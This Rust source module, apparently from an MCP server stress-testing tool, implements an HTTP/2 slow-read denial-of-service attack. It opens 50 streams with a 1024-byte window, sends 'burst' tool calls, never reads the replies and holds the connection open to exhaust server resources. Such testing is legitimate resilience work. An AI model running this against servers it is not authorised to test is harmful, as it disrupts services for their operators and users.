//! HTTP/2 connections whose streams are never read: the peer answers pings and grants no window.

use std::time::Duration;

use anyhow::{Context as _, Result};
use bytes::Bytes;
use http::Request;
use serde_json::json;
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout};

use super::attack::{STAY, burst};
use crate::client::{Revision, Session, Target, call};

/// How many streams a connection has.
pub(super) const STREAMS: usize = 50;

/// What a stream may be sent, for ever.
const WINDOW: u32 = 1024;

const HANDSHAKE: Duration = Duration::from_secs(20);

/// Opens the streams, and holds them for a time.
pub(super) async fn attack(target: &Target, number: usize) -> Result<()> {
    let session = match number % 2 {
        0 => None,
        _ => {
            let mut wire = target.connect().await?;
            let session = Session::open(target, &mut wire, Revision::V2025_11_25).await?;
            session.set_level(&mut wire, "info").await?;
            Some(session)
        }
    };
    let stream = TcpStream::connect(target.addr).await?;
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(WINDOW);
    let (client, connection) = timeout(HANDSHAKE, builder.handshake::<_, Bytes>(stream)).await??;
    let streams = async {
        let mut responses = Vec::new();
        let mut client = client;
        for id in 0..STREAMS {
            client = client.ready().await?;
            let (head, body) = request(target, session.as_ref(), id)?;
            let (response, mut sending) = client.send_request(head, false)?;
            sending.send_data(body, true)?;
            responses.push(response);
        }
        sleep(STAY).await;
        // Until here: what was asked for must not be reset before.
        drop(responses);
        Ok(())
    };
    tokio::select! {
        ended = streams => ended,
        // It answers pings, and ends with the server's patience.
        closed = connection => Ok(closed?),
    }
}

/// A call that says much: the same bytes as over HTTP/1.1, taken apart.
fn request(target: &Target, session: Option<&Session>, id: usize) -> Result<(Request<()>, Bytes)> {
    let http1 = match session {
        Some(session) => session.post(&call(id, "burst", burst())),
        None => {
            let meta = json!({"io.modelcontextprotocol/logLevel": "info"});
            let params = json!({"name": "burst", "arguments": burst()});
            target.modern(id, "tools/call", params, meta)
        }
    };
    let text = std::str::from_utf8(&http1)?;
    let (head, body) = text.split_once("\r\n\r\n").context("a head and a body")?;
    let mut request = Request::post(format!("http://{}/mcp", target.host));
    for line in head.lines().skip(1) {
        let (name, value) = line.split_once(": ").context("a header")?;
        if !name.eq_ignore_ascii_case("host") {
            request = request.header(name, value);
        }
    }
    Ok((request.body(())?, Bytes::copy_from_slice(body.as_bytes())))
}
